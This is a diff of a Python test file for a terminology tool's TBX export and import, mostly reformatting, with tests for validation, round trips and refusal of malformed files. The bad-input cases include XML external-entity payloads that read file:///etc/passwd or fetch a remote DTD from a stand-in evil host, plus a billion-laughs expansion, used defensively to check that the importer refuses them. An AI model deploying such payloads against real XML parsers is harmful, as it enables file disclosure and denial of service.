@@ -1,6 +1,7 @@
 """TBX export and import as a terminologist meets them: files other tools accept,
 nothing lost on the way out and back, official samples that import, and bad
 files refused with a position instead of a traceback."""
+
 from __future__ import annotations
 
 import re
@@ -11,18 +12,20 @@ import pytest
 import yaml
 from lxml import etree
 
+from generator.errors import TermBaseError
 from generator.interop import tbx_import, tbx_xml
-from generator.termbase import loader
 from generator.interop.tbx_export import export_tbx
 from generator.interop.tbx_import import import_tbx
-from generator.errors import TermBaseError
+from generator.termbase import loader
 
 ROOT = Path(__file__).resolve().parents[2]
 from conftest import TBX_DIR  # noqa: E402
+
 DCA = TBX_DIR / "Example_Astronomy_DCA_VALID.tbx"
 DCT = TBX_DIR / "Example_Astronomy_DCT_VALID.tbx"
 NS = {"t": "urn:iso:std:iso:30042:ed-2"}
 XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"
+
 
 @pytest.fixture(scope="module")
 def rng() -> etree.RelaxNG:
@@ -61,15 +64,25 @@ ALLOWED_TYPES = {
     "admin": {"customerSubset", "projectSubset", "source"},
     "descrip": {"subjectField", "context", "definition"},
     "ref": {"crossReference"},
-    "termNote": {"administrativeStatus", "partOfSpeech", "geographicalUsage", "grammaticalGender",
-                 "termLocation", "termType"},
+    "termNote": {
+        "administrativeStatus",
+        "partOfSpeech",
+        "geographicalUsage",
+        "grammaticalGender",
+        "termLocation",
+        "termType",
+    },
     "transac": {"transactionType"},
     "transacNote": {"responsibility"},
     "xref": {"externalCrossReference", "xGraphic"},
 }
 ALLOWED_VALUES = {
-    "administrativeStatus": {"admittedTerm-admn-sts", "deprecatedTerm-admn-sts", "supersededTerm-admn-sts",
-                             "preferredTerm-admn-sts"},
+    "administrativeStatus": {
+        "admittedTerm-admn-sts",
+        "deprecatedTerm-admn-sts",
+        "supersededTerm-admn-sts",
+        "preferredTerm-admn-sts",
+    },
     "partOfSpeech": {"adjective", "noun", "other", "verb", "adverb"},
     "grammaticalGender": {"masculine", "feminine", "neuter", "other"},
     "termType": {"fullForm", "acronym", "abbreviation", "shortForm", "variant", "phrase"},
@@ -103,7 +116,11 @@ def schematron_dca_problems(root: etree._Element) -> list[str]:
             problems.append(f"line {el.sourceline}: {name} type {kind} not in TBX-Basic")
         if name == "termNote" and kind in ALLOWED_VALUES and el.text not in ALLOWED_VALUES[kind]:
             problems.append(f"line {el.sourceline}: {kind} value {el.text!r} not allowed")
-        levels = LEVELS.get((name, kind)) or LEVELS.get((name, None)) if name in ("descrip", "admin", "ref", "termNote") else None
+        levels = (
+            LEVELS.get((name, kind)) or LEVELS.get((name, None))
+            if name in ("descrip", "admin", "ref", "termNote")
+            else None
+        )
         if levels:
             parent = el.getparent()
             if etree.QName(parent).localname.endswith("Grp"):
@@ -117,6 +134,7 @@ def schematron_dca_problems(root: etree._Element) -> list[str]:
 
 
 # --- export -----------------------------------------------------------------
+
 
 def test_export_of_the_project_validates_and_has_the_expected_structure(rng, project, exported):
     assert exported.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n')
@@ -132,8 +150,10 @@ def test_export_of_the_project_validates_and_has_the_expected_structure(rng, pro
     assert len(statuses) == terms
     assert Counter(s.text for s in statuses).keys() <= ALLOWED_VALUES["administrativeStatus"]
     definition = project.concepts["customer"].langs["en"].definition
-    found = root.xpath("//t:conceptEntry[@id='customer']/t:langSec[@xml:lang='en']//t:descrip[@type='definition']/text()",
-                       namespaces=NS)
+    found = root.xpath(
+        "//t:conceptEntry[@id='customer']/t:langSec[@xml:lang='en']//t:descrip[@type='definition']/text()",
+        namespaces=NS,
+    )
     assert found == [definition]
     assert root.find("t:tbxHeader/t:fileDesc/t:titleStmt/t:title", NS).text == project.title["en"]
 
@@ -213,6 +233,7 @@ def test_round_trip_keeps_what_tbx_basic_has_no_category_for(rng):
 
 # --- import: official samples -------------------------------------------------
 
+
 def test_official_dca_sample_imports_and_exports_valid_tbx(rng, astronomy):
     data = astronomy.data
     assert len(data["concepts"]) == 45
@@ -224,7 +245,9 @@ def test_official_dca_sample_imports_and_exports_valid_tbx(rng, astronomy):
     assert c1.subject == "General"
     assert c1.langs["en"].definition == "A group of stars formed together in the spiral arms of a galaxy."
     assert [(t.text, t.status) for t in c1.langs["en"].terms] == [
-        ("open cluster", "preferred"), ("galactic cluster", "deprecated")]  # supersededTerm
+        ("open cluster", "preferred"),
+        ("galactic cluster", "deprecated"),
+    ]  # supersededTerm
     assert c1.langs["en"].examples[0].endswith("(Source: http://seds.org/MESSIER/open.html)")
     assert "oxford2007" in c1.sources and termbase.sources["oxford2007"].lang == "en"
     assert_valid(rng, export_tbx(termbase))
@@ -332,11 +355,13 @@ def test_tbx_v2_martif_imports_with_reports():
     assert en.definition == "flat board on which food is cut"  # indentation collapsed
     assert en.examples == ("Put the onion on the chopping board.",)
     assert [(t.text, t.status, t.type) for t in en.terms] == [
-        ("chopping board", "preferred", None), ("cutting board", "deprecated", "variant")]
+        ("chopping board", "preferred", None),
+        ("cutting board", "deprecated", "variant"),
+    ]
     assert en.terms[1].note == "geographicalUsage: US\nCommon in American recipes."
     assert termbase.sources[board.sources[0]].url == "http://example.org/kitchen"
     assert board.langs["de"].terms[0].pos == "other" and board.langs["de"].terms[0].gender == "neuter"
-    assert any("crossReference: spoon (eid-99)" == n for n in en.notes)
+    assert any(n == "crossReference: spoon (eid-99)" for n in en.notes)
     lines = {r.line: r.message for r in result.reports}
     assert "became the concept id 'board-1'" in lines[13]
     assert "dropped a transaction record" in lines[28]
@@ -378,26 +403,46 @@ BILLION_LAUGHS = """<?xml version="1.0"?>
 """
 
 
-@pytest.mark.parametrize("raw, line, words", [
-    ('<?xml version="1.0"?>\n<tbx>\n<text></tbx>', 3, "not well-formed XML"),
-    ("", 1, "not well-formed XML"),
-    ("<html><body/></html>", 1, "not a TBX file"),
-    ('<tbx type="TBX-Basic" style="dca" xml:lang="en"><text/></tbx>', 1, "unknown TBX version"),
-    ('<tbx type="TBX-Fancy" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"><text/></tbx>', 1,
-     "unknown TBX dialect"),
-    ('<martif type="XLIFF"><text/></martif>', 1, "unknown martif type"),
-    (V3.format(entries=ENTRY.format(id="c1", lang="en") + "\n" + ENTRY.format(id="c1", lang="en")), 6,
-     "duplicate concept id 'c1' (first used on line 5)"),
-    (V3.format(entries=ENTRY.format(id="c1", lang="english!")), 5, "not a valid language code"),
-    (V3.format(entries=ENTRY.format(id="c1", lang="xq")), 5, "unknown language code 'xq'"),
-    (V3.format(entries='<conceptEntry id="c1"><langSec><termSec><term>t</term></termSec></langSec></conceptEntry>'),
-     5, "has no xml:lang"),
-    ('<?xml version="1.0"?>\n<!DOCTYPE tbx [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<tbx>&xxe;</tbx>', 3,
-     "entity declarations are not allowed"),
-    ('<!DOCTYPE tbx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]><tbx/>', 1,
-     "entity declarations are not allowed"),
-    (BILLION_LAUGHS, 3, "entity declarations are not allowed"),
-])
+@pytest.mark.parametrize(
+    "raw, line, words",
+    [
+        ('<?xml version="1.0"?>\n<tbx>\n<text></tbx>', 3, "not well-formed XML"),
+        ("", 1, "not well-formed XML"),
+        ("<html><body/></html>", 1, "not a TBX file"),
+        ('<tbx type="TBX-Basic" style="dca" xml:lang="en"><text/></tbx>', 1, "unknown TBX version"),
+        (
+            '<tbx type="TBX-Fancy" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"><text/></tbx>',
+            1,
+            "unknown TBX dialect",
+        ),
+        ('<martif type="XLIFF"><text/></martif>', 1, "unknown martif type"),
+        (
+            V3.format(entries=ENTRY.format(id="c1", lang="en") + "\n" + ENTRY.format(id="c1", lang="en")),
+            6,
+            "duplicate concept id 'c1' (first used on line 5)",
+        ),
+        (V3.format(entries=ENTRY.format(id="c1", lang="english!")), 5, "not a valid language code"),
+        (V3.format(entries=ENTRY.format(id="c1", lang="xq")), 5, "unknown language code 'xq'"),
+        (
+            V3.format(
+                entries='<conceptEntry id="c1"><langSec><termSec><term>t</term></termSec></langSec></conceptEntry>'
+            ),
+            5,
+            "has no xml:lang",
+        ),
+        (
+            '<?xml version="1.0"?>\n<!DOCTYPE tbx [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<tbx>&xxe;</tbx>',
+            3,
+            "entity declarations are not allowed",
+        ),
+        (
+            '<!DOCTYPE tbx [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]><tbx/>',
+            1,
+            "entity declarations are not allowed",
+        ),
+        (BILLION_LAUGHS, 3, "entity declarations are not allowed"),
+    ],
+)
 def test_bad_input_is_refused_with_a_position(raw, line, words):
     error = refused(raw)
     assert error.problems[0].line == line
